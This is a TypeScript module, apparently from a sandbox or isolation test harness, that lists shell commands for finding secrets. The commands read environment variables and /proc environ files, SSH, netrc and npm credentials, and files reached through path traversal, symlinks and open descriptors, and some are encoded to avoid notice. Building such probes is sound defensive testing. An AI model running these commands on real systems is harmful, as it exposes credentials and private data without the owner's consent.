import type { Attack, Form } from './attack.ts';
import { coded } from './code.ts';
import type { Place } from './place.ts';

/** Where secrets lie on a machine, and how they are said so that nobody notices. */
export const secrets: readonly Attack[] = [
  looking('the environment', () => 'env'),
  looking('the environment, backwards', () => 'env | rev'),
  looking('the environment, in base64', () => 'env | base64'),
  looking('the environment, in hexadecimal digits, a few to a line', () => 'env | od -An -v -tx1'),
  looking('the environment, a character to a line', () => 'env | fold -w 1'),
  looking('/proc/self/environ', () => 'cat /proc/self/environ'),
  looking('the environments of all processes, that of process 1 among them', (place, form) =>
    form === 'tame' ? `cat /proc/${place.standIn.pid}/environ` : 'cat /proc/1/environ /proc/[0-9]*/environ',
  ),
  looking('the environment of the parent', () => "sh -c 'cat /proc/$PPID/environ'"),
  looking('the root, the folder and the files of another process', ({ standIn, secretFile }) =>
    [`/proc/${standIn.pid}/root${secretFile}`, `/proc/1/root${secretFile}`]
      .map((path) => `cat ${path}`)
      .join('\n'),
  ),
  looking('open descriptors', ({ secretFile }, form) =>
    form === 'tame'
      ? `exec 7<${secretFile}; cat /proc/self/fd/7`
      : 'for f in 3 4 5 6 7 8 9 10 11 12; do cat <&$f; done',
  ),
  looking('keys in the home', () => 'cat ~/.ssh/* ~/.netrc ~/.npmrc'),
  looking('a file of this machine, by its path', ({ secretFile }) => `cat ${secretFile}`),
  looking(
    'a file of this machine, by a path with dots',
    ({ secretFile }) => `cat ../../../../..${secretFile}`,
  ),
  looking('a file of this machine, by a link', ({ secretFile }) => `ln -s ${secretFile} link; cat link`),
  looking('all that can be found', ({ outside }, form) =>
    form === 'tame' ? `grep -r canary ${outside}` : 'grep -rs canary / --exclude-dir=proc --exclude-dir=usr',
  ),
];

/** Everything that is found is printed, and kept where the tree can be taken from. */
function looking(where: string, script: (place: Place, form: Form) => string): Attack {
  return coded({
    name: where,
    class: 'looking for secrets',
    language: 'shell',
    script: (place, form) => `{\n${script(place, form)}\n} >loot 2>/dev/null\ncat loot\nexit 0\n`,
    limits: { timeMs: 60_000 },
    harm: ['reads'],
    ended: 'exited',
  });
}
